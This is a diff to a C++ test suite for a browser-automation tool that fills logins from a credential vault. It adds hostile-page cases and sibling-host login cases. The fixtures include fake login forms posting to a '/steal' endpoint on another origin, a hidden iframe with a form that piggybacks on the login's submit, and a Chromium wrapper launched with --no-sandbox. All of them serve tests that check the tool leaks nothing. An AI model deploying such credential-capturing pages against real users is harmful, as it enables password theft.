@@ -3,9 +3,11 @@
 // vault of the test's own. After every test no typed value appears in a tool result, on standard
 // error, in the audit file, or in a tab's title or URL.
 
+#include <algorithm>
 #include <array>
 #include <chrono>
 #include <cstdio>
+#include <filesystem>
 #include <fstream>
 #include <functional>
 #include <map>
@@ -16,6 +18,7 @@
 #include <httplib.h>
 
 #include "support/Uri.hpp"
+#include "support/Utf8.hpp"
 #include "tests/support/BrowserKit.hpp"
 #include "tests/support/LoginSite.hpp"
 #include "tests/support/ServerTest.hpp"
@@ -44,6 +47,38 @@ std::string oathtoolCode() {
   return out;
 }
 
+// The forms in which a value typed into a field may leave the page: as typed, and as an input or
+// text area keeps it (line breaks dropped, CR LF read as LF, or sent as CR LF; blanks trimmed).
+std::vector<std::string> sentForms(const std::string& value) {
+  std::string dropped;
+  std::string lf;
+  for (std::size_t i = 0; i < value.size(); ++i) {
+    if (value[i] != '\r' && value[i] != '\n') dropped += value[i];
+    if (value[i] != '\r' || (i + 1 < value.size() && value[i + 1] != '\n')) lf += value[i];
+  }
+  std::string crlf;
+  for (const char c : lf) crlf += c == '\n' ? std::string("\r\n") : std::string(1, c);
+  std::vector<std::string> forms;
+  for (const std::string& form :
+       {value, dropped, lf, crlf, support::trimWhitespaceAndNewlines(value)}) {
+    if (!form.empty() && std::find(forms.begin(), forms.end(), form) == forms.end()) {
+      forms.push_back(form);
+    }
+  }
+  return forms;
+}
+
+// Debian's Chromium with every host under example.com resolved to 127.0.0.1, so that the login
+// site also answers as hosts of one registrable domain (www., login., eu.example.com).
+std::string writeMappingWrapper(const std::string& folder) {
+  const std::string path = folder + "/chromium";
+  std::ofstream(path) << "#!/bin/sh\nexec " << mcp::fakes::kChromium
+                      << " --no-sandbox '--host-resolver-rules=MAP *.example.com 127.0.0.1' "
+                         "\"$@\"\n";
+  std::filesystem::permissions(path, std::filesystem::perms::owner_all);
+  return path;
+}
+
 // A form page: `inputs` inside a form posted back to the page's own path.
 std::string formPage(const std::string& title, const std::string& inputs,
                      const std::string& button = "<button>Sign in</button>") {
@@ -52,7 +87,7 @@ std::string formPage(const std::string& title, const std::string& inputs,
 
 class FillLoginTest : public ServerTest {
  protected:
-  FillLoginTest() : tmp(dir.makeFolder("t")), wrapper(writeChromiumWrapper(dir.path())) {
+  FillLoginTest() : tmp(dir.makeFolder("t")), wrapper(writeMappingWrapper(dir.path())) {
     site.page("/home", "<title>Home</title><p>welcome</p>");
   }
 
@@ -87,7 +122,7 @@ class FillLoginTest : public ServerTest {
       vault->answer("resolve", field(label), VaultReply::line(released));
     }
     typed.push_back(value);
-    leaks.secret(value);
+    for (const std::string& form : sentForms(value)) leaks.secret(form);
   }
 
   Json ok(const std::string& tool, const Json& args = Json::object()) {
@@ -446,6 +481,8 @@ struct HostileCase {
   std::map<std::string, std::string> landed;
   // Whether the password asks for approval (the page acts while it waits).
   bool gated = false;
+  // Values of the item other than the usual ones, by kind ("username", "password").
+  std::map<std::string, std::string> values = {};
 };
 
 void PrintTo(const HostileCase& c, std::ostream* out) {
@@ -512,6 +549,13 @@ class HostilePageTest : public FillLoginTest, public testing::WithParamInterface
     return result->isError ? leaks.redact(result->text) : "ok";
   }
 
+  // How many tabs browser_tabs lists.
+  std::size_t tabCount() {
+    const ToolResult result = call("browser_tabs", {{"action", "list"}});
+    EXPECT_FALSE(result.isError) << leaks.redact(result.text);
+    return support::parseJson(result.text).value_or(Json::object()).value("tabs", Json()).size();
+  }
+
   std::chrono::steady_clock::duration longest{};
   long peakThreads = 0;
 };
@@ -556,7 +600,98 @@ std::string typedThenSubmittedFromOutside(HostilePageTest& t) {
       {{"ref", kItem + "/username"}, {"field", "custom"}, {"selector", "#note"}, {"submit", true}});
 }
 
+// The password by browser_fill with a submit, then by web_login on the page opened afresh: both
+// refused alike; the login's text.
+std::string refusedByFillAndByLogin(HostilePageTest& t) {
+  const std::string filled = t.timed(
+      "browser_fill", {{"ref", kItem + "/password"}, {"field", "password"}, {"submit", true}});
+  (void)t.timed("browser_navigate", {{"url", t.site.url("/page")}});
+  const std::string login = t.timed("web_login", {{"ref", kItem}});
+  EXPECT_EQ(filled, login);
+  return login;
+}
+
+// A hidden frame and a form posted into it, which the login form's submit handler submits too.
+const std::string kTrackedSubmit =
+    "<iframe name=\"sink\" style=\"display:none\"></iframe><form id=\"track\" method=\"post\" "
+    "action=\"/track\" target=\"sink\"><input type=\"hidden\" name=\"t\" value=\"1\"></form>"
+    "<script>document.forms[0].addEventListener('submit', () => track.requestSubmit());</script>";
+
 const HostileCase kHostileCases[] = {
+    // Values the browser rewrites as they are set (line breaks dropped by inputs, blanks trimmed
+    // by e-mail inputs, CR LF read as LF by text areas) stay guarded.
+    {"APasswordEndingInALineFeedOnAGetForm",
+     loginForm("method=\"get\" action=\"/home\""),
+     {},
+     {},
+     refusedByFillAndByLogin,
+     "not submitted: the form would send the password in the URL (method GET)",
+     {{"password", "pw"}, {"username", "user"}},
+     false,
+     {{"password", "Hostile-Canary-Pa55\n"}}},
+    {"APasswordWithCrLfInsidePostedToAnotherOrigin",
+     loginForm("method=\"post\" action=\"@OTHER@/steal\""),
+     {},
+     {},
+     refusedByFillAndByLogin,
+     "not submitted: the form sends to http://localhost:",
+     {{"password", "pw"}, {"username", "user"}},
+     false,
+     {{"password", "Hostile-Canary\r\n-Pa55"}}},
+    {"BlanksAroundAnEmailPostedToAnotherOrigin",
+     loginForm("method=\"post\" action=\"@OTHER@/steal\""),
+     {},
+     {},
+     [](HostilePageTest& t) {
+       return t.timed("browser_fill",
+                      {{"ref", kItem + "/username"}, {"field", "username"}, {"submit", true}});
+     },
+     "not submitted: the form sends to http://localhost:",
+     {{"username", "user"}},
+     false,
+     {{"username", "  hostile-user@example.com  "}}},
+    {"CrLfInATextareaPostedToAnotherOrigin",
+     "<title>Note</title><form method=\"post\" action=\"@OTHER@/steal\"><textarea name=\"field\" "
+     "id=\"note\"></textarea><button>Save</button></form>",
+     {},
+     {},
+     [](HostilePageTest& t) {
+       return t.timed("browser_fill", {{"ref", kItem + "/username"},
+                                       {"field", "custom"},
+                                       {"selector", "#note"},
+                                       {"submit", true}});
+     },
+     "not submitted: the form sends to http://localhost:",
+     {{"username", "field"}},
+     false,
+     {{"username", "hostile-user\r\n@example.com"}}},
+    // A second form submitted from the login form's submit handler hides neither submission.
+    {"ASecondFormsRequestSubmitInsideTheLoginsSubmitHandler",
+     loginForm("method=\"get\" action=\"/home\"", kTrackedSubmit),
+     {},
+     {},
+     refusedByFillAndByLogin,
+     "not submitted: the form would send the password in the URL (method GET)",
+     {{"password", "pw"}, {"username", "user"}}},
+    // A refused submission into a new window opens none and sends nothing, by GET or by POST.
+    {"ARefusedSubmissionToANewWindowSendsNothing",
+     loginForm("method=\"get\" action=\"/home\" target=\"_blank\""),
+     {{"/page2", loginForm("method=\"post\" action=\"@OTHER@/steal\" target=\"_blank\"")}},
+     {},
+     [](HostilePageTest& t) {
+       const Json submit = {{"ref", kItem + "/password"}, {"field", "password"}, {"submit", true}};
+       const std::string get = t.timed("browser_fill", submit);
+       EXPECT_NE(get.find("(method GET)"), std::string::npos) << get;
+       EXPECT_EQ(t.tabCount(), 1u);
+       (void)t.timed("browser_navigate", {{"url", t.site.url("/page2")}});
+       const std::string posted = t.timed("browser_fill", submit);
+       EXPECT_EQ(t.tabCount(), 1u);
+       EXPECT_TRUE(t.site.requestsTo("/home").empty());
+       EXPECT_TRUE(t.site.requestsTo("/steal").empty());
+       return posted;
+     },
+     "not submitted: the form sends to http://localhost:",
+     {{"password", "pw"}}},
     {"GetSearchFormTakesNoPassword",
      "<title>Search</title><form method=\"get\" action=\"/search\"><input name=\"q\" "
      "id=\"q\"><button>Search</button></form>",
@@ -842,12 +977,23 @@ TEST_P(HostilePageTest, NothingLandsButInTheVerifiedElement) {
           "<iframe src=\"" + site.localhostURL("/frame?" + std::to_string(frame)) + "\"></iframe>";
     }
   }
-  site.page("/page", html, "/home", c.headers);
-  for (const auto& [path, page] : c.others) site.page(path, page);
+  // "@OTHER@" stands for the site's other origin.
+  const auto placed = [&](std::string text) {
+    for (std::size_t at = text.find("@OTHER@"); at != std::string::npos; at = text.find("@OTHER@"))
+      text.replace(at, 7, site.localhostURL(""));
+    return text;
+  };
+  site.page("/page", placed(html), "/home", c.headers);
+  for (const auto& [path, page] : c.others) site.page(path, placed(page));
   startBrowser();
   // Every value of the item, each of its own type, unlocked for this host only.
-  store("username", "hostile-user@example.com", {"127.0.0.1"}, false, site.url("/page"));
-  const std::string password = "Hostile-Canary-Pa55";
+  const auto valueOf = [&](const std::string& kind, const std::string& usual) {
+    const auto given = c.values.find(kind);
+    return given == c.values.end() ? usual : given->second;
+  };
+  const std::string username = valueOf("username", "hostile-user@example.com");
+  store("username", username, {"127.0.0.1"}, false, site.url("/page"));
+  const std::string password = valueOf("password", "Hostile-Canary-Pa55");
   store("password", password, {"127.0.0.1"}, c.gated, site.url("/page"));
   store("otp", kSeed, {"127.0.0.1"});
   // These cases open the page themselves: its load is what they test.
@@ -863,17 +1009,21 @@ TEST_P(HostilePageTest, NothingLandsButInTheVerifiedElement) {
   // Only the verified element received a value: every report of an input event that carries one
   // names that element, and no other request carries one.
   const std::map<std::string, std::string> values = {
-      {"username", "hostile-user@example.com"}, {"password", password}, {"otp", kSeed}};
+      {"username", username}, {"password", password}, {"otp", kSeed}};
   for (const LoginSite::Request& request : site.requests()) {
     for (const auto& [kind, value] : values) {
-      const std::string encoded = support::percentEncode(value, "");
+      const std::vector<std::string> forms = sentForms(value);
       const auto carries = [&](const std::string& text) {
-        return text.find(value) != std::string::npos || text.find(encoded) != std::string::npos;
+        return std::any_of(forms.begin(), forms.end(), [&](const std::string& form) {
+          return text.find(form) != std::string::npos ||
+                 text.find(support::percentEncode(form, "")) != std::string::npos;
+        });
       };
       if (request.path == "/typed") {
         const auto allowed = c.landed.find(kind);
         for (const char* name : {"user", "pw", "q", "other", "field"}) {
-          if (formValue(request.body, name) != value) continue;
+          const std::string landed = formValue(request.body, name);
+          if (std::find(forms.begin(), forms.end(), landed) == forms.end()) continue;
           EXPECT_TRUE(allowed != c.landed.end() && allowed->second == name)
               << kind << " landed in " << name;
         }
@@ -901,6 +1051,14 @@ struct LegitimateCase {
   std::vector<std::array<std::string, 3>> others;
   // Where the credentials are posted.
   std::string sink;
+  // Whether the pages are served as hosts under example.com ("@PORT@" in them stands for the
+  // site's port) with the start page on www.example.com, the item bound to that address alone (so
+  // by registrable domain), and the credentials expected at `sinkHost` (without its port).
+  bool named = false;
+  std::string sinkHost = "";
+  // Whether the page logs in through a form submission, which the fill reports as submitted (else
+  // its script posts the credentials, and leaves the page perhaps before the fill asks).
+  bool submitEvent = true;
 };
 
 void PrintTo(const LegitimateCase& c, std::ostream* out) {
@@ -967,6 +1125,34 @@ const LegitimateCase kLegitimateCases[] = {
          "<input type=\"hidden\" name=\"requestSubmit\" value=\"1\"></form>",
      {},
      "/login"},
+    {"ATwoCallLoginToASiblingHost",
+     "<title>Sign in</title><form method=\"post\" "
+     "action=\"http://login.example.com:@PORT@/session\">" +
+         kUserAndPassword + "</form>",
+     {{"/session", "<title>Session</title>", "/home"}},
+     "/session",
+     true,
+     "login.example.com"},
+    {"ASubmitHandlerChoosingARegionalHost",
+     "<title>Sign in</title><form id=\"f\" method=\"post\" action=\"/session\">" +
+         kUserAndPassword +
+         "</form><script>f.addEventListener('submit', () => { f.action = "
+         "'http://eu.example.com:@PORT@/session'; });</script>",
+     {{"/session", "<title>Session</title>", "/home"}},
+     "/session",
+     true,
+     "eu.example.com"},
+    {"EnterOnAPageThatActsOnTheKeypress",
+     "<title>Sign in</title><input name=\"user\" id=\"user\" type=\"email\"><input name=\"pw\" "
+     "id=\"pw\" type=\"password\"><a href=\"#\" class=\"button\" onclick=\"go(); return "
+     "false\">Sign in</a><script>const go = () => fetch('/api/login', {method: 'POST', body: new "
+     "URLSearchParams({user: user.value, pw: pw.value})}).then(() => location = '/home'); "
+     "document.addEventListener('keypress', (e) => e.key === 'Enter' && go());</script>",
+     {{"/api/login", "ok", ""}},
+     "/api/login",
+     false,
+     "",
+     false},
 };
 
 TEST_P(LegitimatePageTest, LogsInByWebLoginAndByBrowserFill) {
@@ -981,20 +1167,27 @@ TEST_P(LegitimatePageTest, LogsInByWebLoginAndByBrowserFill) {
     html = "<title>Sign in</title><iframe src=\"" + sameSite.url("/idp") + "\"></iframe>";
     sameSite.page("/home", "<title>Home</title><p>welcome</p>");
   }
+  const std::string port = std::to_string(site.port());
+  for (std::size_t at = html.find("@PORT@"); at != std::string::npos; at = html.find("@PORT@")) {
+    html.replace(at, 6, port);
+  }
   site.page("/login", html, "/home");
   for (const auto& [path, page, next] : c.others) sink.page(path, page, next);
   // Right after the start: the page has had no focus yet.
   startBrowser();
-  const Json hosts = {"127.0.0.1", "localhost"};
-  store("username", "legit@example.com", hosts, false, site.url("/login"));
+  const std::string loginURL =
+      c.named ? "http://www.example.com:" + port + "/login" : site.url("/login");
+  const Json hosts = c.named ? Json::array() : Json{"127.0.0.1", "localhost"};
+  store("username", "legit@example.com", hosts, false, loginURL);
   const std::string password = "Legit-Pa55-" + c.name;
-  store("password", password, hosts, false, site.url("/login"));
+  store("password", password, hosts, false, loginURL);
   vault->answer("preview", field("otp"), VaultReply::errorEnvelope("no such field"));
   const auto received = [&] {
     std::size_t count = 0;
     for (const LoginSite::Request& request : sink.requestsTo(c.sink)) {
       count += request.method == "POST" && formValue(request.body, "pw") == password &&
-               formValue(request.body, "user") == "legit@example.com";
+               formValue(request.body, "user") == "legit@example.com" &&
+               (c.sinkHost.empty() || request.host == c.sinkHost + ":" + port);
     }
     return count;
   };
@@ -1004,12 +1197,14 @@ TEST_P(LegitimatePageTest, LogsInByWebLoginAndByBrowserFill) {
   EXPECT_EQ(login.value("filled", Json()), (Json{"username", "password"}));
   EXPECT_EQ(received(), 1u);
 
-  ok("browser_navigate", {{"url", site.url("/login")}});
+  ok("browser_navigate", {{"url", loginURL}});
   EXPECT_EQ(ok("browser_fill", {{"ref", field("username")}, {"field", "username"}})["filled"],
             true);
-  EXPECT_EQ(ok("browser_fill",
-               {{"ref", field("password")}, {"field", "password"}, {"submit", true}})["submitted"],
-            true);
+  const Json submitted =
+      ok("browser_fill", {{"ref", field("password")}, {"field", "password"}, {"submit", true}});
+  if (c.submitEvent) {
+    EXPECT_EQ(submitted["submitted"], true);
+  }
   ASSERT_TRUE(sink.waitFor("/home", 2));
   EXPECT_EQ(received(), 2u);
 }
